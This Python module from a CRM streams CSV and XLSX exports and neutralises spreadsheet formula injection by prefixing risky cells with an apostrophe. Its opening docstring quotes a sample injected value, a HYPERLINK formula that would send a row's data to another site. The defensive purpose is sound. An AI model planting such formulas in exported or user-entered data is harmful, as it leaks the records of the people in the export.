"""Cells of every CSV and XLSX file the CRM writes (admin exports, reports).

A spreadsheet runs a cell that starts with =, +, -, @, a tab or a carriage return as a
formula: a client's address typed as `=HYPERLINK("http://…"&B2)` would send the row to
another site when a colleague opens the export. Such text is written with a leading
apostrophe, the OWASP rule for CSV injection, so it stays text.
"""

import csv
import datetime
import io
import re
import zipfile
from collections.abc import Iterable, Iterator
from decimal import Decimal
from xml.sax.saxutils import escape

from import_export import resources

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Text of digits, spaces and + - ( ) . , alone («+7 916 123-45-67», «-1,5») can neither call
# a function nor refer to a cell: it stays readable as it was typed.
PLAIN_FIGURES_RE = re.compile(r"[0-9\s+\-().,]*")
# Control characters an XLSX file cannot hold (openpyxl refuses them with an error).
ILLEGAL_XML_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_cell(value):
    """The value to write into a cell: text that a spreadsheet would run as a formula gets a
    leading apostrophe; control characters that no XLSX file may hold become U+FFFD.
    Numbers, dates and empty values are returned as they are."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_XML_RE.sub("\ufffd", value)
    if value.startswith(FORMULA_START) and not PLAIN_FIGURES_RE.fullmatch(value):
        return "'" + value
    return value


class SafeExportResource(resources.ModelResource):
    """An admin import/export resource whose exported cells go through `safe_cell`."""

    def export_resource(self, instance, selected_fields=None, **kwargs):
        row = super().export_resource(instance, selected_fields=selected_fields, **kwargs)
        return [safe_cell(value) for value in row]

    def get_export_headers(self, selected_fields=None):
        return [safe_cell(h) for h in super().get_export_headers(selected_fields)]


def csv_value(value) -> str:
    """A value as a cell of a CSV file for Russian Excel: «;»-separated, a decimal comma,
    dates as 31.12.2026 (13:45), text through `safe_cell`."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return str(value).replace(".", ",")
    if isinstance(value, datetime.datetime):
        return f"{value:%d.%m.%Y %H:%M}"
    if isinstance(value, datetime.date):
        return f"{value:%d.%m.%Y}"
    return safe_cell(str(value))


CSV_BATCH = 500


def stream_csv(header: list[str], rows: Iterable[list]) -> Iterator[bytes]:
    """A CSV file (UTF-8 with the BOM Excel needs, «;», CRLF) written as the rows come: for
    a StreamingHttpResponse, a few hundred rows a chunk."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    yield ("\ufeff" + out.getvalue()).encode()
    out.seek(0)
    out.truncate()
    for index, row in enumerate(rows, start=1):
        writer.writerow([csv_value(v) for v in row])
        if index % CSV_BATCH == 0:
            yield out.getvalue().encode()
            out.seek(0)
            out.truncate()
    yield out.getvalue().encode()


# An XLSX file is a zip of XML parts. Written by hand, row by row, into a zip that is sent
# as it grows, a sheet of any length starts downloading at once and takes little memory
# (openpyxl builds the whole file before the first byte). No ZIP64: Excel opens it badly,
# and a sheet stays far below its 2 GiB (a million rows are some 300 MiB).
XLSX_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/styles.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
        "</Types>"
    ),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/styles" Target="styles.xml"/>'
        "</Relationships>"
    ),
    # Cell styles by index: 0 plain, 1 money (1 234,50), 2 date and time, 3 date, 4 bold
    # (the header).
    "xl/styles.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<numFmts count="2"><numFmt numFmtId="164" formatCode="dd.mm.yyyy hh:mm"/>'
        '<numFmt numFmtId="165" formatCode="dd.mm.yyyy"/></numFmts>'
        '<fonts count="2"><font><sz val="11"/><name val="Calibri"/></font>'
        '<font><b/><sz val="11"/><name val="Calibri"/></font></fonts>'
        '<fills count="2"><fill><patternFill patternType="none"/></fill>'
        '<fill><patternFill patternType="gray125"/></fill></fills>'
        '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
        '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>'
        "</cellStyleXfs>"
        '<cellXfs count="5"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
        '<xf numFmtId="4" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
        '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
        '<xf numFmtId="165" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
        '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/>'
        "</cellXfs>"
        '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
        "</styleSheet>"
    ),
}
XLSX_BATCH = 200
EXCEL_EPOCH = datetime.datetime(1899, 12, 30)


def _column_letter(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _xlsx_cell(ref: str, value, bold: bool = False) -> str:
    if value is None or value == "":
        return ""
    if isinstance(value, bool):
        value = "да" if value else "нет"
    if isinstance(value, datetime.datetime):
        serial = (value.replace(tzinfo=None) - EXCEL_EPOCH) / datetime.timedelta(days=1)
        return f'<c r="{ref}" s="2"><v>{serial:.10f}</v></c>'
    if isinstance(value, datetime.date):
        serial = (value - EXCEL_EPOCH.date()).days
        return f'<c r="{ref}" s="3"><v>{serial}</v></c>'
    if isinstance(value, Decimal):
        return f'<c r="{ref}" s="1"><v>{value}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = escape(safe_cell(str(value)))
    style = ' s="4"' if bold else ""
    return f'<c r="{ref}"{style} t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


class _Chunks(io.RawIOBase):
    """Where the zip is written: it keeps what was written until it is taken away. It cannot
    seek, so zipfile writes each part's sizes after it (a data descriptor)."""

    def __init__(self):
        self.chunks: list[bytes] = []

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        self.chunks.append(bytes(data))
        return len(data)

    def take(self) -> bytes:
        data = b"".join(self.chunks)
        self.chunks.clear()
        return data


def stream_xlsx(
    header: list[str], rows: Iterable[list], *, sheet: str, widths: list[int] = ()
) -> Iterator[bytes]:
    """An XLSX file of one sheet (the header in bold and frozen, text through `safe_cell`,
    Decimal as money, dates as dates) written as the rows come."""
    sink = _Chunks()
    letters = [_column_letter(i) for i in range(len(header))]
    with zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=5) as book:
        for name, xml in XLSX_PARTS.items():
            book.writestr(name, xml)
        book.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            f'<sheets><sheet name="{escape(sheet[:31], {chr(34): "&quot;"})}" sheetId="1" '
            'r:id="rId1"/></sheets></workbook>',
        )
        yield sink.take()
        with book.open("xl/worksheets/sheet1.xml", "w") as part:
            cols = "".join(
                f'<col min="{i}" max="{i}" width="{w}" customWidth="1"/>'
                for i, w in enumerate(widths, start=1)
            )
            head = "".join(_xlsx_cell(f"{letters[i]}1", h, bold=True) for i, h in enumerate(header))
            part.write(
                (
                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    '<sheetViews><sheetView workbookViewId="0"><pane ySplit="1" topLeftCell="A2" '
                    'activePane="bottomLeft" state="frozen"/></sheetView></sheetViews>'
                    + (f"<cols>{cols}</cols>" if cols else "")
                    + f'<sheetData><row r="1">{head}</row>'
                ).encode()
            )
            batch = []
            for number, row in enumerate(rows, start=2):
                cells = "".join(_xlsx_cell(f"{letters[i]}{number}", v) for i, v in enumerate(row))
                batch.append(f'<row r="{number}">{cells}</row>')
                if len(batch) == XLSX_BATCH:
                    part.write("".join(batch).encode())
                    batch.clear()
                    yield sink.take()
            part.write(("".join(batch) + "</sheetData></worksheet>").encode())
    yield sink.take()
